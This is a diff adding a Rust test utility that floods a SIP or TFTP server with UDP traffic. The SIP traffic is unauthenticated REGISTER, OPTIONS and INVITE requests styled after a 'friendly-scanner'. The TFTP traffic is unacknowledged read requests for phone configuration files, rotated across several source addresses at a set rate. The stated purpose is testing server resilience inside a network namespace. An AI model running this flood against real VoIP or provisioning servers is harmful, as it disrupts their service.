@@ -1,0 +1,93 @@
+//! `flood sip|tftp HOST:PORT SECONDS PACKETS_PER_SECOND SOURCE_IP...`: what a flooding
+//! attacker does, for tests in a network namespace only (it stops by itself and sends
+//! nowhere but HOST:PORT). One socket per source address, taking turns, paced to the total
+//! rate:
+//! - `sip`: REGISTER, OPTIONS and INVITE without credentials, for made-up users, each with a
+//!   fresh Call-ID and branch (what a scanner sends, and what a server must parse);
+//! - `tftp`: read requests for a phone's file that are never acknowledged (every one starts
+//!   a transfer the server retransmits).
+//!
+//! Replies are read and counted but never answered. Prints `sent N received M rate R/s`.
+
+use std::net::{IpAddr, SocketAddr, UdpSocket};
+use std::time::{Duration, Instant};
+
+fn sip(n: u64, from: SocketAddr, to: SocketAddr) -> Vec<u8> {
+    let method = ["REGISTER", "OPTIONS", "INVITE"][(n % 3) as usize];
+    let user = 100 + n % 900;
+    let host = to.ip();
+    format!(
+        "{method} sip:{user}@{host} SIP/2.0\r\n\
+         Via: SIP/2.0/UDP {from};branch=z9hG4bK-flood-{n}\r\n\
+         Max-Forwards: 70\r\n\
+         From: <sip:{user}@{host}>;tag=f{n}\r\n\
+         To: <sip:{user}@{host}>\r\n\
+         Call-ID: flood-{n}@{from}\r\n\
+         CSeq: 1 {method}\r\n\
+         Contact: <sip:{user}@{from}>\r\n\
+         User-Agent: friendly-scanner\r\n\
+         Content-Length: 0\r\n\r\n"
+    )
+    .into_bytes()
+}
+
+fn tftp(n: u64) -> Vec<u8> {
+    let mut p = vec![0, 1];
+    p.extend_from_slice(format!("SEP{:012X}.cnf.xml", 0x0011_2233_0000u64 + n % 1000).as_bytes());
+    p.extend_from_slice(b"\0octet\0");
+    p
+}
+
+fn main() {
+    let args: Vec<String> = std::env::args().skip(1).collect();
+    let usage = "usage: flood sip|tftp HOST:PORT SECONDS PACKETS_PER_SECOND SOURCE_IP...";
+    let kind = args.first().cloned().expect(usage);
+    let to: SocketAddr = args.get(1).and_then(|a| a.parse().ok()).expect(usage);
+    let seconds: f64 = args.get(2).and_then(|a| a.parse().ok()).expect(usage);
+    let pps: f64 = args.get(3).and_then(|a| a.parse().ok()).expect(usage);
+    let sources: Vec<IpAddr> = args[4..].iter().map(|a| a.parse().expect(usage)).collect();
+    assert!(!sources.is_empty(), "{usage}");
+    let socks: Vec<(UdpSocket, SocketAddr)> = sources
+        .iter()
+        .map(|ip| {
+            let s = UdpSocket::bind((*ip, 0)).expect("a socket on the source address");
+            s.set_nonblocking(true).expect("non-blocking");
+            let local = s.local_addr().expect("bound");
+            (s, local)
+        })
+        .collect();
+    let start = Instant::now();
+    let end = start + Duration::from_secs_f64(seconds);
+    let (mut sent, mut received) = (0u64, 0u64);
+    let mut buf = [0u8; 4096];
+    loop {
+        let now = Instant::now();
+        if now >= end {
+            break;
+        }
+        // Send what the rate allows by now, then read what came back.
+        let due = (now.duration_since(start).as_secs_f64() * pps) as u64;
+        while sent < due {
+            let (sock, local) = &socks[(sent % socks.len() as u64) as usize];
+            let packet = match kind.as_str() {
+                "sip" => sip(sent, *local, to),
+                "tftp" => tftp(sent),
+                _ => panic!("{usage}"),
+            };
+            // A full send buffer drops the packet, as a flood would lose it anyway.
+            let _ = sock.send_to(&packet, to);
+            sent += 1;
+        }
+        for (sock, _) in &socks {
+            while sock.recv_from(&mut buf).is_ok() {
+                received += 1;
+            }
+        }
+        std::thread::sleep(Duration::from_micros(200));
+    }
+    let took = start.elapsed().as_secs_f64();
+    println!(
+        "sent {sent} received {received} rate {:.0}/s",
+        sent as f64 / took
+    );
+}
